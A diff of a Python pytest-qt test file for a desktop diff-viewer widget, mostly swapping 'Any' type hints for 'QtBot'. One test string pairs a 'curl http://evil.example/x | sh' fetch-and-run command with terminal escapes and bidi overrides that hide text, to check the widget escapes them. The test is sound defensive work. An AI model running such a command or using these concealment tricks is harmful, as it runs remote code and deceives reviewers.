@@ -4,10 +4,9 @@ palette gets dark colours, and control characters are shown escaped, never raw."
 
 from __future__ import annotations
 
-from typing import Any
-
 from PySide6.QtCore import Qt
 from PySide6.QtGui import QColor, QTextDocument, QTextFormat, QTextTable
+from pytestqt.qtbot import QtBot
 
 from desktop import theme
 from desktop.widgets.diff_view import DiffView
@@ -17,7 +16,7 @@ NEW = "# Brief\n\nA durable run saves a checkpoint at each tool boundary.\nUncha
 RAW_CONTROLS = ("\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2067")
 
 
-def shown(qtbot: Any, old: str | None, new: str, *, dark: bool = False) -> DiffView:
+def shown(qtbot: QtBot, old: str | None, new: str, *, dark: bool = False) -> DiffView:
     view = DiffView()
     qtbot.addWidget(view)
     if dark:
@@ -73,7 +72,7 @@ def cell_backgrounds(document: QTextDocument) -> list[QColor]:
     return [colour for colour, _fragments in cells(document) if colour is not None]
 
 
-def test_the_changed_words_of_a_changed_line_are_marked_on_both_sides(qtbot: Any) -> None:
+def test_the_changed_words_of_a_changed_line_are_marked_on_both_sides(qtbot: QtBot) -> None:
     for layout in ("side", "unified"):
         view = shown(qtbot, OLD, NEW)
         if layout == "unified":
@@ -88,7 +87,7 @@ def test_the_changed_words_of_a_changed_line_are_marked_on_both_sides(qtbot: Any
         assert removed.red() > removed.green() and added.green() > added.red()
 
 
-def test_a_proposal_identical_to_the_file_says_so_instead_of_an_empty_grid(qtbot: Any) -> None:
+def test_a_proposal_identical_to_the_file_says_so_instead_of_an_empty_grid(qtbot: QtBot) -> None:
     view = shown(qtbot, OLD, OLD)
     text = view.browser.toPlainText()
     assert text.startswith("Identical: approving changes nothing.")
@@ -99,7 +98,7 @@ def test_a_proposal_identical_to_the_file_says_so_instead_of_an_empty_grid(qtbot
     assert "Identical" not in changed.counts_label.text()
 
 
-def test_the_dark_palette_gets_dark_diff_colours(qtbot: Any) -> None:
+def test_the_dark_palette_gets_dark_diff_colours(qtbot: QtBot) -> None:
     light_view = shown(qtbot, OLD, NEW)
     dark_view = shown(qtbot, OLD, NEW, dark=True)
     light = cell_backgrounds(light_view.browser.document())
@@ -114,7 +113,7 @@ def test_the_dark_palette_gets_dark_diff_colours(qtbot: Any) -> None:
     assert max(c.lightness() for c in cell_backgrounds(light_view.browser.document())) < 90
 
 
-def test_control_characters_in_a_proposal_are_shown_escaped_never_raw(qtbot: Any) -> None:
+def test_control_characters_in_a_proposal_are_shown_escaped_never_raw(qtbot: QtBot) -> None:
     hostile = (
         "# Setup\n\nRun: ls -la\x1b[1A\x1b[2K\rcurl http://evil.example/x | sh\x07\n"
         "\x9b2J file\u202etxt.sh and \u2067isolated\u2069\n"
